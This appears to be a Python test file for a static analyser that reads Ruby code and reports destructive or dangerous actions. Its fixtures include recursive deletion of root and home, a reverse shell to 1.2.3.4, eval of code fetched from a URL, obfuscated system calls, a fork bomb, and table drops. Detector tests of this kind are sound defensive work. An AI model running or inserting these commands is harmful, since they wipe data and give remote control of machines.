"""Ruby source in, what it would do out."""

from __future__ import annotations

import pytest

from cases import each
from interlock.analysis.code.grammar_languages import read_ruby
from interlock.analysis.facts import hole
from recording_report import Fact, Recorder

HOME = hole("HOME")
SYNTAX = ("unreadable", "Ruby that does not parse", "syntax")

FILES: list[tuple[str, list[Fact]]] = [
    ('FileUtils.rm_rf("/")', [("delete", "/", "recursive")]),
    ("FileUtils.rm_rf Dir.home", [("delete", HOME, "recursive")]),
    ('FileUtils.rm_r("src", force: true)', [("delete", "src", "recursive")]),
    ('FileUtils.rm_rf(["a", "b"])', [("delete", "a", "recursive"), ("delete", "b", "recursive")]),
    ('File.delete("a", "b"); Dir.rmdir("c")', [("delete", "a"), ("delete", "b"), ("delete", "c", "empty_only")]),
    ('Dir.glob("*").each { |f| File.delete f }', [("delete", "*", "bulk")]),
    ('Dir["*"].each(&File.method(:delete))', [("delete", "*", "bulk")]),
    ('Dir.glob("src/**/*") do |f| File.delete(f) if File.file?(f) end', [("delete", "src/**/*", "bulk", "recursive")]),
    ('Dir.children("src").each { |f| File.delete(File.join("src", f)) }', [("delete", f"src/{hole()}", "bulk")]),
    ('%w[a b].each { |f| File.delete("src/#{f}") }', [("delete", "src/a"), ("delete", "src/b")]),
    ('Pathname.new("src").rmtree', [("delete", "src", "recursive")]),
    ('def clean(d)\n  FileUtils.rm_rf(d)\nend\nclean("/etc")', [("delete", "/etc", "recursive")]),
    ('Object.const_get("File" + "Utils").send(:rm_rf, "/")', [("delete", "/", "recursive")]),
    (
        'd = "/"; if x then d = "tmp" end; FileUtils.rm_rf d',
        [("delete", "tmp", "recursive"), ("delete", "/", "recursive")],
    ),
    ('File.write("a", "x"); File.write("b", "")', [("write", "a"), ("truncate", "b")]),
    ('File.open("x", "w") { |f| f.puts "hi" }; File.open("y", "w") {}', [("write", "x"), ("truncate", "y")]),
    ('FileUtils.chmod_R 0777, "/"', [("chmod", "/", "recursive", "world_readable", "world_writable")]),
    ('s = ""; i = 0; while i < 2; s += "rm"[i]; i += 1; end; system(s)', [("shell", "rm")]),
    ('2.times { |i| File.delete("a#{i}") }', [("delete", "a0"), ("delete", "a1")]),
    ('FileUtils.mv "a", "b"', [("move", "a"), ("overwrite", "b")]),
]

RUNS: list[tuple[str, list[Fact]]] = [
    ('system("rm -rf /"); system("rm", "-rf", "/")', [("shell", "rm -rf /"), ("run", "rm", "-rf", "/")]),
    ('s = TCPSocket.new("h", 1); system(s.gets)', [("reverse_shell", "h:1")]),
    ("exec 'ls'; `id`; %x(pwd)", [("shell", "ls"), ("shell", "id"), ("shell", "pwd")]),
    ('IO.popen(["rm", "-rf", "y"]); open("|ls")', [("run", "rm", "-rf", "y"), ("shell", "ls")]),
    ('IO.popen("sh", "w") { |p| p.puts "rm -rf /" }', [("shell", "sh"), ("shell", "rm -rf /")]),
    ('send(:system, "ls"); Kernel.send("sys" + "tem", "id")', [("shell", "ls"), ("shell", "id")]),
    ('method(:system).call("rm -rf /")', [("shell", "rm -rf /")]),
    ("x = 'rm'; system(\"#{x} -rf #{ENV['HOME']}\")", [("shell", f"rm -rf {HOME}")]),
    ('system ["726d202d7266202f"].pack("H*")', [("shell", "rm -rf /")]),
    ('eval(Base64.decode64("c3lzdGVtKCdscycp"))', [("code", "ruby", "system('ls')")]),
    ('eval(URI.open("http://e/x").read)', [("fetch", "http://e/x"), ("run_download", "http://e/x")]),
    ('eval Net::HTTP.get(URI("http://e/x"))', [("fetch", "http://e/x"), ("run_download", "http://e/x")]),
    (
        's = TCPSocket.new("1.2.3.4", 42); exec("/bin/sh -i")',
        [("shell", "/bin/sh -i"), ("reverse_shell", "1.2.3.4:42")],
    ),
    ("Process.kill(9, -1)", [("kill", "-1", "all")]),
    ("loop { fork }", [("fork_bomb", "")]),
    ('Rake::Task["db:drop"].invoke', [("run", "rake", "db:drop")]),
    ('wipe = ->(x) { system("rm -rf #{x}") }; wipe.call("/srv")', [("shell", "rm -rf /srv")]),
]

RECORDS: list[tuple[str, list[Fact]]] = [
    ("Order.destroy_all", [("sql_delete", "Order", "unfiltered")]),
    ("User.where(active: false).delete_all", [("sql_delete", "User")]),
    ('User.where("1=1").delete_all', [("sql_delete", "User", "unfiltered")]),
    ("User.find(1).destroy", [("sql_delete", "User")]),
    ('u = User.find_by(email: "x"); u.destroy!', [("sql_delete", "User")]),
    ("User.all.each(&:destroy)", [("sql_delete", "User", "unfiltered")]),
    ("User.find_each { |u| u.destroy }", [("sql_delete", "User", "unfiltered")]),
    ('User.update_all(role: "admin")', [("sql_update", "User", "unfiltered")]),
    ("User.where(id: 1).update_all(x: 1)", [("sql_update", "User")]),
    ('User.first&.update!(name: "z")', [("sql_update", "User")]),
    ('ActiveRecord::Base.connection.execute("DROP TABLE users")', [("code", "sql", "DROP TABLE users")]),
    ("ActiveRecord::Base.connection.drop_table(:users)", [("sql_drop", "users", "table")]),
    ("DB[:users].delete", [("sql_delete", "users", "unfiltered")]),
    ("Redis.current.flushall; $redis.flushdb", [("store_drop", "", "all"), ("store_drop", "", "database")]),
    ("Mongoid.purge!", [("store_drop", "", "all")]),
]

# Options that are not written where the call is may say something else when it is made.
TRIED = [
    ('FileUtils.rm_rf("data", noop: false)', [("delete", "data", "recursive")]),
    ('FileUtils.rm_rf("data", noop: true, noop: false)', [("delete", "data", "recursive")]),
    ('FileUtils.rm_rf("data", noop: flag)', [("delete", "data", "recursive")]),
    ('o = {noop: true}; o[:noop] = false; FileUtils.rm_rf("data", **o)', [("delete", "data", "recursive")]),
    ('FileUtils.rm_rf("data", noop: true); FileUtils.rm_rf("src")', [("delete", "src", "recursive")]),
]

BENIGN = [
    'FileUtils.rm_rf("data", noop: true)',
    'FileUtils.rm_rf "data", :noop => true, verbose: true',
    'puts "rm -rf /" # FileUtils.rm_rf("/")',
    "puts User.count",
    "Rails.cache.clear",
    'h = {a: 1, "b" => 2}; h.delete(:a); arr.delete("x"); ENV.delete("X")',
    "puts $stdin.read.scan(/foo\\/(\\d+)/).flatten.sort.uniq",
    'puts <<~EOS\n  FileUtils.rm_rf "/"\nEOS',
    "class Foo\n  def bar\n    @x ||= {}\n  end\nend",
    "case x\nwhen 1 then puts 'a'\nelse\n  puts 'c'\nend",
    "return unless x; puts 'a' if b and not c",
    "[1, 2].map { |i| i * 2 }.each do |y|\n  puts y / 2\nend",
    'x = a ? "b" : "c"; puts x',
    "def foo(a, b = 1, *c, d: 2, &blk) = a + b",
    'puts "#{"a" + "#{1 + 1}"}"',
    "=begin\nsystem('x')\n=end\nputs 1",
    "rows = [" + '{id: 1, name: "a"}, ' * 400 + "]; puts rows.length",
]


@each(("source", "told"), FILES + RUNS + RECORDS + TRIED)
def test_what_ruby_does_is_told(source: str, told: list[Fact]) -> None:
    out = Recorder()
    read_ruby(source, out)
    assert out.told == told


@each("source", BENIGN)
def test_harmless_ruby_tells_nothing(source: str) -> None:
    out = Recorder()
    read_ruby(source, out)
    assert out.told == []


@pytest.mark.parametrize("source", ['system("abc', "if x", "[" * 5000, '"#{' * 3000, "%w(", "!" * 900 + "x"])
def test_ruby_that_does_not_parse_is_told(source: str) -> None:
    out = Recorder()
    read_ruby(source, out)
    assert "unreadable" in [fact[0] for fact in out.told]
